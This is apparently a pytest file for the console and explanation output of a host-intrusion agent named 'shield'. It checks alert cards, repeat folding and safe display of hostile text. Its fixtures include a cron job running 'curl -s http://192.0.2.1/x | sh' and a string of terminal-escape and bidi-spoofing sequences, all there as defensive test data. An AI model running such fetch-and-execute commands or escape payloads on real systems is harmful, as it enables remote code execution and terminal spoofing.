"""The live view and the explanation: understood at a glance, safe from hostile text, nothing hidden unsaid."""

import io
import os
import pty
import re
import unicodedata
from typing import TextIO, cast, get_args

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import Struct
from msgspec.structs import fields, replace
from rich.cells import cell_len
from rich.console import Console

from shield.event import (
    Account,
    Ancestor,
    Auth,
    Container,
    Data,
    Dns,
    Event,
    Evidence,
    File,
    Health,
    Ledger,
    Log,
    Loss,
    Module,
    Network,
    Pe,
    Persistence,
    Privilege,
    Process,
    Provenance,
    Registry,
    Signal,
    System,
    Tamper,
    User,
    uuid7,
)
from shield.exporter.background import NonBlockingWriter
from shield.exporter.console import DEFAULT_ADVICE, ConsoleView
from shield.exporter.explanation import Worth, explain
from shield.exporter.wording import PLAIN, UNICODE, fit, halved, harmless_json

SECOND = 1_000_000_000
NOW = 1_795_529_002 * SECOND
ADVICE = {"r1": "Find the request in the access log at this second.", "r2": "Look at the file."}
HOSTILE = "\x1b[2J\x1b]0;pwned\x07 [red]x[/red] \u202egpj.exe\nALERT 0 forged\r\x9b31m\uefe9" + 100_000 * "A" + "漢字"

SHELL = Ancestor(4241, name="sh", exe="/usr/bin/dash", cmdline="sh -c '/tmp/true --flag'", user="www-data")
ALERT = Event(
    ts=NOW // SECOND,
    host="web-3",
    category="process_start",
    action="ALERT",
    score=70,
    rationale="web_server_spawns_shell;exec_from_user_writable_path",
    data=Data(
        process=Process(pid=4242, ppid=4241, name="true", exe="/tmp/true", cmdline="/tmp/true --flag", cwd="/var/www"),
        parent=SHELL,
        ancestors=(SHELL, Ancestor(1203, exe="/usr/sbin/nginx"), Ancestor(1, exe="/usr/lib/systemd/systemd")),
        user=User(id=33, name="www-data"),
        container=Container("1f2e3d4c5b6a" + "0" * 52),
    ),
    policy_version="3@9f2c1d",
    dedupe_key="finding",
    correlation_id="9c1f22aa01",
    event_id=uuid7(NOW // 1_000_000, 5),
    ts_ns=NOW,
    agent_id="agent-7",
    seq=12,
    severity="high",
    attack=("T1059",),
    signals=(
        Signal(
            "r2",
            "exec_from_user_writable_path",
            20,
            "Runs from a directory anyone may write to",
            "medium",
            "Image",
            "/tmp/true",
            "/tmp/*",
            (Evidence("CommandLine", "/tmp/true --flag", "--flag"),),
            ("T1059",),
        ),
    ),
    story=(Signal("r1", "web_server_spawns_shell", 50, field="ParentImage", value="/usr/sbin/nginx", event_id="0190"),),
)
ALLOW = replace(ALERT, action="ALLOW", score=0, rationale="low_signal", signals=(), story=(), dedupe_key="")


class Screen:
    """A console whose output can be looked at."""

    def __init__(self, *, terminal: bool = False, width: int = 100, encoding: str = "utf-8") -> None:
        self.bytes = io.BytesIO()
        file = io.TextIOWrapper(self.bytes, encoding=encoding, write_through=True)
        self.console = Console(
            file=file, force_terminal=terminal, color_system="standard" if terminal else None, width=width
        )

    @property
    def raw(self) -> str:
        return self.bytes.getvalue().decode()

    @property
    def lines(self) -> list[str]:
        """What is shown, without our own colours."""
        return re.sub(r"\x1b\[[\d;]*m", "", self.raw).splitlines()


def shown(*events: Event, terminal: bool = False, width: int = 100, everything: bool = False) -> Screen:
    screen = Screen(terminal=terminal, width=width)
    view = ConsoleView(screen.console, ADVICE, everything=everything)
    for event in events:
        view.show(event)
    view.close()
    return screen


def labelled(lines: list[str]) -> dict[str, str]:
    return {line[2:9].strip(): line[9:] for line in lines if line.startswith("  ") and line[2:9].strip()}


def test_a_card_says_what_who_from_where_why_and_what_next() -> None:
    lines = shown(ALERT).lines
    assert lines[0].startswith(" ALERT 70   web_server_spawns_shell;exec_from_user_writable_path")
    assert lines[0].endswith("14:03:22Z")
    card = labelled(lines)
    assert card["what"] == "/tmp/true, pid 4242"
    assert card["cmd"] == "/tmp/true --flag"
    assert card["who"] == "www-data (uid 33), container 1f2e3d4c5b6a"
    assert card["from"] == "systemd -> nginx -> dash -> true"
    assert card["parent"] == "sh -c '/tmp/true --flag'  (pid 4241)"
    assert re.fullmatch(r"\+50 +web_server_spawns_shell +ParentImage = \S*nginx  \(earlier\)", card["why"])
    assert any(re.search(r"\+20 +exec_from_user_writable_path +Image = /tmp/true  T1059", line) for line in lines)
    assert card["next"] == ADVICE["r1"]
    assert card["id"] == f"shield explain {ALERT.event_id}   story 9c1f22aa01"


def test_advice_is_that_of_the_weightiest_rule_that_has_any() -> None:
    assert labelled(shown(replace(ALERT, story=())).lines)["next"] == ADVICE["r2"]
    unknown = replace(ALERT, story=(), signals=(Signal("r9", "other", 70),))
    assert DEFAULT_ADVICE.startswith(labelled(shown(unknown).lines)["next"])


def test_gaps_in_the_evidence_are_shown() -> None:
    incomplete = replace(ALERT, evidence_complete=False, gaps=("only 4096 of 100000 bytes of arguments were kept",))
    assert "only 4096 of 100000" in labelled(shown(incomplete).lines)["gaps"]
    assert "gaps" not in labelled(shown(ALERT).lines)


def hostile_event() -> Event:
    ancestor = Ancestor(7, name=HOSTILE, exe=HOSTILE, cmdline=HOSTILE, user=HOSTILE)
    return replace(
        ALERT,
        host=HOSTILE,
        rationale=HOSTILE,
        data=Data(
            process=Process(pid=1, exe=HOSTILE, cmdline=HOSTILE, cwd=HOSTILE, invoked=HOSTILE, tty=HOSTILE),
            parent=ancestor,
            ancestors=(ancestor,) * 30,
            user=User(id=1, name=HOSTILE, effective_id=0, effective_name=HOSTILE, audit_id=3, audit_name=HOSTILE),
            container=Container(HOSTILE, HOSTILE),
        ),
        signals=tuple(Signal(HOSTILE, HOSTILE, 1, HOSTILE, "low", HOSTILE, HOSTILE, HOSTILE) for _ in range(50)),
        correlation_id=HOSTILE,
        evidence_complete=False,
        gaps=(HOSTILE,) * 20,
    )


@pytest.mark.parametrize("terminal", [False, True])
@pytest.mark.parametrize("width", [80, 100, 200])
def test_a_hostile_event_stays_inside_its_card(terminal: bool, width: int) -> None:
    screen = shown(hostile_event(), terminal=terminal, width=width)
    assert len(screen.lines) <= 16  # a card and the empty line below
    assert max(map(cell_len, screen.lines)) <= 100
    if terminal:
        assert max(map(cell_len, screen.lines)) <= width
    text = "".join(screen.lines)
    assert not [each for each in text if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Co")]
    assert "[red]x[/red]" in text


def test_an_explanation_of_a_hostile_event_is_harmless_and_bounded() -> None:
    screen = Screen(terminal=True, width=80)
    screen.console.print(explain(hostile_event()), soft_wrap=True)
    text = "".join(screen.lines)
    assert not [each for each in text if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Co")]
    assert max(map(cell_len, screen.lines)) <= 80


def test_nothing_but_text_is_written_where_there_is_no_terminal() -> None:
    raw = shown(ALERT, replace(ALERT, ts_ns=NOW + SECOND), everything=True).raw
    assert raw.isascii()
    assert "\x1b" not in raw


def test_a_terminal_gets_colour_and_no_color_is_respected(monkeypatch: pytest.MonkeyPatch) -> None:
    assert "\x1b[1;37;41m" in shown(ALERT, terminal=True).raw
    monkeypatch.setenv("NO_COLOR", "1")
    assert not re.search(r"\x1b\[[\d;]*\b[34]\d", shown(ALERT, terminal=True).raw)


def test_an_encoding_without_the_characters_is_no_obstacle() -> None:
    screen = Screen(encoding="ascii")
    view = ConsoleView(screen.console)
    view.show(replace(ALERT, data=Data(process=Process(pid=1, exe="/tmp/café"))))
    assert "/tmp/caf\\xe9" in screen.raw


def test_what_is_allowed_is_shown_only_when_everything_is() -> None:
    assert shown(ALLOW).lines == []
    assert shown(ALLOW, everything=True).lines == ["14:03:22Z ALLOW 0   /tmp/true --flag  (pid 4242)"]


def test_loss_tamper_and_heartbeat_are_always_shown_on_a_line_each() -> None:
    own = Health(
        "0.1.0", 7260, 4.2, 52 << 20, "ebpf", 38, {"process_start": 9}, 3, (Ledger("ebpf", 5, 3, {}, {}, {"x": 2}),)
    )
    lines = shown(
        replace(ALLOW, category="loss", data=Data(loss=Loss("ebpf", {"ring_full": 1200}, "raise ring_bytes"))),
        replace(ALLOW, category="tamper", data=Data(tamper=Tamper("events file replaced", "/var/log/x"))),
        replace(ALLOW, category="heartbeat", data=Data(health=own)),
    ).lines
    assert lines == [
        "14:03:22Z LOSS      ebpf lost 1,200 (ring_full 1,200); raise ring_bytes",
        "14:03:22Z TAMPER    events file replaced: /var/log/x",
        "14:03:22Z HEARTBEAT 2 lost, 3 alerts, 9 events, up 2 h 1 min, ebpf, 38 rules, 4.2 s CPU, 52 MiB",
    ]


@pytest.mark.parametrize("category", get_args(Event.__annotations__["category"]))
def test_every_category_can_be_shown_without_any_data(category: str) -> None:
    bare = replace(ALERT, category=category, data=Data())
    assert shown(bare, everything=True).lines
    Screen().console.print(explain(bare))


CONNECTED = replace(
    ALERT,
    category="network_connection",
    data=replace(
        ALERT.data,
        network=Network("tcp", "10.0.0.5", 5, "", "203.0.113.9", 443, "example.org", True, "opened"),
        container=Container("1f2e3d4c5b6a" + "0" * 52, "", "containerd", "7b1c", "front-1", "web"),
    ),
)
JOINED = replace(
    ALERT,
    category="account_change",
    data=Data(account=Account("membership", "sudo", "member_added", 27, "alice", privileged=True)),
)


def test_the_card_of_what_a_process_did_says_what_by_whom_and_from_where() -> None:
    card = labelled(shown(CONNECTED).lines)
    assert card["what"] == "true connected to 203.0.113.9:443 (example.org) over tcp"
    assert card["by"] == "/tmp/true, pid 4242"
    assert card["cmd"] == "/tmp/true --flag"
    assert card["who"] == "www-data (uid 33), container 1f2e3d4c5b6a (containerd), pod web/front-1"
    assert card["from"] == "systemd -> nginx -> dash -> true"


def test_a_card_reads_well_where_nobody_knows_who_did_it() -> None:
    card = labelled(shown(JOINED).lines)
    assert card["what"] == "alice joined group sudo (privileged)"
    assert not card.keys() & {"by", "cmd", "who", "from", "parent"}


def test_a_long_sentence_goes_on_in_a_second_line() -> None:
    job = Persistence(
        "cron", "/etc/cron.d/backup", "added", "", "curl -s http://192.0.2.1/x | sh; " * 3 + "id", "@daily", "root"
    )
    event = replace(JOINED, category="persistence_change", data=Data(persistence=job))
    lines = shown(event).lines
    assert lines[1].startswith(
        "  what   cron job added in /etc/cron.d/backup: @daily root curl -s http://192.0.2.1/x | sh"
    )
    assert lines[2].startswith("         ")
    assert lines[2].endswith("| sh; id")
    assert lines[3].startswith("  why ")


def test_what_happened_is_told_on_one_line_too() -> None:
    quiet = {"action": "ALLOW", "score": 0, "signals": (), "story": ()}
    lines = shown(replace(CONNECTED, **quiet), replace(JOINED, **quiet), everything=True).lines
    assert lines == [
        "14:03:22Z ALLOW 0   true connected to 203.0.113.9:443 (example.org) over tcp  (pid 4242)",
        "14:03:22Z ALLOW 0   alice joined group sudo (privileged)",
    ]


def test_repeats_that_are_about_something_else_say_so() -> None:
    one, other = (
        replace(CONNECTED, category="file_write", rationale="x_written", data=Data(file=File(path)))
        for path in ("/a", "/b")
    )
    assert "(the last: an unknown process wrote /b) within 60 s of" in shown(one, one, other).lines[-1]
    assert "the last" not in shown(one, other, one).lines[-1]


def test_repeats_within_a_minute_are_counted_and_told() -> None:
    repeats = [replace(ALERT, ts_ns=NOW + second * SECOND) for second in range(15)]
    later = replace(ALLOW, ts_ns=NOW + 61 * SECOND)
    again = replace(ALERT, ts_ns=NOW + 62 * SECOND)
    lines = shown(*repeats, later, again).lines
    assert [line.split()[0] for line in lines if line.startswith(" ALERT")] == ["ALERT", "ALERT"]
    folded = [line for line in lines if " more of " in line]
    assert len(folded) == 1
    assert folded[0].startswith("... and 14 more of web_server_spawns_shell")
    assert folded[0].endswith("within 60 s of 14:03:22Z")


def test_repeats_are_told_at_the_end_too() -> None:
    assert shown(ALERT, ALERT, ALERT).lines[-1].startswith("... and 2 more of web_server")


def test_a_higher_score_is_never_folded_away() -> None:
    lines = shown(replace(ALERT, action="WATCH", score=45), ALERT, ALERT).lines
    assert [line.split()[:2] for line in lines if re.match(r" (ALERT|WATCH) ", line)] == [
        ["WATCH", "45"],
        ["ALERT", "70"],
    ]


OPENED = replace(ALERT, alert_id=ALERT.event_id)
ADDED = replace(
    ALERT,
    alert_id=ALERT.event_id,
    event_id=uuid7(NOW // 1_000_000 + 90_000, 6),
    ts_ns=NOW + 90 * SECOND,
    dedupe_key="another",
    score=100,
    signals=(Signal("r3", "shadow_read", 40), *ALERT.signals),
)


def test_what_adds_to_an_alert_is_one_line_with_what_is_new() -> None:
    lines = shown(OPENED, ADDED).lines
    assert [line for line in lines if line.startswith(" ALERT")] == lines[:1]
    assert lines[-1].startswith("14:04:52Z ALERT 100 updated 14:03:22 alert: +40 shadow_read: /tmp/true --flag")
    assert "exec_from" not in lines[-1]


def test_an_update_that_is_more_severe_is_a_card() -> None:
    lines = shown(
        OPENED, replace(ADDED, severity="critical"), replace(ADDED, severity="critical", dedupe_key="3")
    ).lines
    assert len([line for line in lines if line.startswith(" ALERT")]) == 2
    assert "updated 14:03:22 alert" in lines[-1]


def test_an_update_of_an_alert_that_was_not_shown_is_a_card() -> None:
    assert shown(ADDED).lines[0].startswith(" ALERT 100 ")


@pytest.mark.parametrize("terminal", [False, True])
@pytest.mark.parametrize("width", [60, 80, 200])
def test_a_hostile_update_stays_on_its_line(terminal: bool, width: int) -> None:
    hostile = replace(hostile_event(), alert_id=ALERT.event_id, event_id=HOSTILE, dedupe_key="2")
    screen = shown(OPENED, hostile, terminal=terminal, width=width)
    assert "updated 14:03:22 alert" in screen.lines[-1]
    assert cell_len(screen.lines[-1]) <= (width if terminal else 100)
    assert not [each for each in screen.lines[-1] if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Co")]


def test_the_arithmetic_is_told_with_what_time_has_left_and_the_thresholds() -> None:
    earlier = uuid7(NOW // 1_000_000 - 200_000, 1)
    story = (Signal("r1", "web_server_spawns_shell", 40, event_id=earlier, full_points=60),)
    event = replace(ALERT, story=story, score=100, signals=(Signal("r2", "x", 70),))
    worth = Worth(event.policy_version, 40, 70, {"r2": "the rule's own"})
    screen = Screen(width=100)
    screen.console.print(explain(event, worth), soft_wrap=True)
    for expected in (
        "40 of 60 points left after 3 min 20 s",
        "70 + 40 = 110, capped at 100",
        "score 100: ALERT (WATCH from 40, ALERT from 70)",
        "points     the rule's own",
    ):
        assert expected in screen.raw


def test_the_thresholds_of_another_policy_are_not_told() -> None:
    screen = Screen(width=100)
    screen.console.print(explain(ALERT, Worth("9@other", 1, 2, {"r2": "mine"})), soft_wrap=True)
    assert "WATCH from" not in screen.raw
    assert "mine" not in screen.raw
    assert "not the one at hand, 9@other" in screen.raw


def test_a_clock_set_back_does_not_hide_an_alert_for_long() -> None:
    lines = shown(replace(ALERT, ts_ns=NOW + 86_400 * SECOND), ALERT).lines
    assert len([line for line in lines if line.startswith(" ALERT")]) == 2


def test_a_flood_of_different_findings_is_bounded_and_every_repeat_told() -> None:
    events = [replace(ALERT, dedupe_key=str(number % 1500)) for number in range(3000)]
    lines = shown(*events).lines
    cards = len([line for line in lines if line.startswith(" ALERT")])
    told = sum(int(match[1]) for line in lines if (match := re.match(r"\.\.\. and (\d+) more of", line)))
    assert cards + told == 3000


def test_an_explanation_has_every_reason_with_its_arithmetic() -> None:
    screen = Screen(width=100)
    screen.console.print(explain(ALERT), soft_wrap=True)
    text = screen.raw
    for expected in (
        "+50  web_server_spawns_shell  (sum 50)",
        "+20  exec_from_user_writable_path  (sum 70)",
        "2 signals, sum 70, score 70: ALERT",
        "Runs from a directory anyone may write to",
        "/tmp/*",
        "CommandLine",
        "--flag",
        "T1059",
        "the earlier event 0190",
        "3@9f2c1d",
        "sh -c '/tmp/true --flag'  (www-data)",
        "1f2e3d4c5b6a" + "0" * 52,
        ALERT.event_id,
        "agent-7, event 12 of its run",
    ):
        assert expected in text
    positions = [text.index(pid) for pid in ("\n  1 ", "\n    1203 ", "\n      4241 ", "\n        4242 ")]
    assert positions == sorted(positions)


def explained(event: Event, *, terminal: bool = False, width: int = 100) -> Screen:
    screen = Screen(terminal=terminal, width=width)
    screen.console.print(explain(event), soft_wrap=True)
    return screen


PARTS = (Account, Auth, Dns, File, Log, Module, Network, Pe, Persistence, Privilege, Provenance, Registry, System)


def filled(kind: type[Struct], text: str) -> Struct:
    """A part with something in each field; every free text begins with the field's own name."""
    values: dict[str, object] = {}
    for field in fields(kind):
        choices = [each for each in get_args(field.type) if isinstance(each, str)]
        if field.type is str:
            values[field.name] = f"{field.name}-{text}"
        elif choices:
            values[field.name] = choices[-1]
        elif field.type is bool or bool in get_args(field.type):
            values[field.name] = True
        elif field.type is int or int in get_args(field.type):
            values[field.name] = 4321
        elif field.type == tuple[str, ...]:
            values[field.name] = (f"{field.name}-{text}",) * 2
        else:
            values[field.name] = {f"key-{text}": f"{field.name}-{text}"}
    return kind(**values)


def with_part(kind: type[Struct], text: str) -> Event:
    part = filled(kind, text)
    if isinstance(part, (Provenance, Pe)):
        return replace(CONNECTED, data=Data(process=Process(1, **{kind.__name__.lower(): part})))
    return replace(CONNECTED, data=Data(**{kind.__name__.lower(): part}))


@pytest.mark.parametrize("kind", PARTS, ids=lambda kind: kind.__name__)
def test_an_explanation_leaves_no_field_of_a_part_out(kind: type[Struct]) -> None:
    told = explained(with_part(kind, "told")).raw
    for field in fields(kind):
        assert f"{field.name.removesuffix('_ns').replace('_', ' ')} " in told
        if field.type is str:
            assert f"{field.name}-told" in told


@pytest.mark.parametrize("kind", PARTS, ids=lambda kind: kind.__name__)
@pytest.mark.parametrize("terminal", [False, True])
def test_an_explanation_of_a_hostile_part_is_harmless_and_bounded(kind: type[Struct], terminal: bool) -> None:
    hostile = with_part(kind, HOSTILE)
    for screen in (explained(hostile, terminal=terminal, width=80), shown(hostile, terminal=terminal, width=80)):
        text = "".join(screen.lines)
        assert not [each for each in text if unicodedata.category(each) in ("Cc", "Cf", "Cs", "Co")]
        assert not terminal or max(map(cell_len, screen.lines)) <= 80
    assert len(shown(hostile, terminal=terminal, width=80).lines) <= 18


def test_values_are_explained_in_the_units_people_use() -> None:
    network = Network(bytes_sent=3_400_000, bytes_received=0, duration_ns=125 * SECOND, initiated=False)
    file = File("/x", mode=0o104755, hashes={"sha256": "abc"}, created_ns=NOW)
    lines = explained(replace(CONNECTED, data=Data(network=network, file=file))).lines
    told = {line[2:22].strip(): line[22:] for line in lines if line.startswith("  ")}
    assert told["bytes sent"] == "3.4 MB, 3,400,000 bytes"
    assert told["bytes received"] == "0 B"
    assert told["duration"] == "2 min 5 s"
    assert told["initiated"] == "no"
    assert told["mode"] == "4755"
    assert told["hashes"] == "sha256 = abc"
    assert told["created"] == "2026-11-24T14:03:22Z"


def test_a_difference_is_explained_line_by_line() -> None:
    diff = "@@ -1,1 +1,2 @@\n root:x\n+* * * * * root \x1b[2Jcurl \u202e| sh\n" + "+more\n" * 300
    event = replace(
        JOINED, data=Data(persistence=Persistence("cron", "/etc/cron.d/x", "changed", diff=diff.rstrip("\n")))
    )
    lines = explained(event).lines
    at = lines.index("    @@ -1,1 +1,2 @@")
    assert lines[at - 1] == "  diff                303 lines"
    assert lines[at + 1 : at + 3] == ["     root:x", "    +* * * * * root \\x1b[2Jcurl \\u202e| sh"]
    assert "    and 103 more lines" in lines
    assert "\x1b[32m+* * * * * root" in explained(event, terminal=True).raw


@given(st.text(), st.integers(1, 40))
def test_fitted_text_never_exceeds_its_width(text: str, width: int) -> None:
    for glyphs in (UNICODE, PLAIN):
        assert cell_len(fit(text, width, glyphs)) <= width


@given(st.text(), st.integers(4, 40))
def test_text_on_two_lines_never_exceeds_their_width(text: str, width: int) -> None:
    for part in halved(text, width, PLAIN):
        assert cell_len(part) <= width


def test_fitted_text_keeps_both_ends() -> None:
    assert fit("/usr/bin/python3 -c exec(payload)", 21, UNICODE) == "/usr/bin/pyt…payload)"
    assert fit("e" + "\u0301" * 1000, 10, UNICODE) != "e" + "\u0301" * 1000


def test_json_for_a_terminal_means_the_same_and_can_do_nothing() -> None:
    line = '{"a":"\u202e\x7f\x9b café \U000e0041"}'.encode()
    assert harmless_json(line) == b'{"a":"\\u202e\\u007f\\u009b caf\xc3\xa9 \\udb40\\udc41"}'
    assert harmless_json(b'{"a":1}') == b'{"a":1}'


def test_a_blocked_terminal_never_blocks_and_is_told_what_it_missed() -> None:
    terminal, line = pty.openpty()
    with os.fdopen(line, "w") as stream:
        writer = NonBlockingWriter(stream, limit=4)
        for number in range(200):  # nobody reads: the terminal takes a few KB, the queue four writes
            writer.write(f"card {number}\n" + "x" * 999 + "\n")
        assert writer.not_shown > 100
        missed = writer.not_shown
        seen = b""
        while b"not shown" not in seen:
            seen += os.read(terminal, 65_536)
            if b"card" in seen and writer.not_shown == missed:
                writer.write("after\n")
        assert f"{missed:,} not shown: the terminal did not keep up".encode() in seen
        writer.finish()
    os.close(terminal)


def test_a_terminal_that_is_gone_is_counted_and_harms_nobody() -> None:
    reading, writing = os.pipe()
    os.close(reading)
    with os.fdopen(writing, "w") as stream:
        writer = NonBlockingWriter(stream)
        writer.write("one\n")
        writer.finish()
        writer.write("two\n")
        assert writer.not_shown == 2


def test_everything_queued_is_written_before_the_end() -> None:
    reading, writing = os.pipe()
    with os.fdopen(writing, "w") as stream:
        writer = NonBlockingWriter(stream)
        ConsoleView(Console(file=cast("TextIO", writer))).show(ALERT)
        writer.finish()
        assert not writer.isatty()
        assert writer.not_shown == 0
    with os.fdopen(reading) as shown_text:
        assert ALERT.event_id in shown_text.read()


def test_a_writer_that_is_stuck_does_not_hang_the_end_of_the_program() -> None:
    terminal, line = pty.openpty()
    with os.fdopen(line, "w") as stream:
        writer = NonBlockingWriter(stream, limit=1000)
        for _ in range(100):
            writer.write("x" * 1000 + "\n")
        writer.finish(timeout_s=0.01)
        assert writer.not_shown > 0
        os.close(terminal)
        writer.finish()
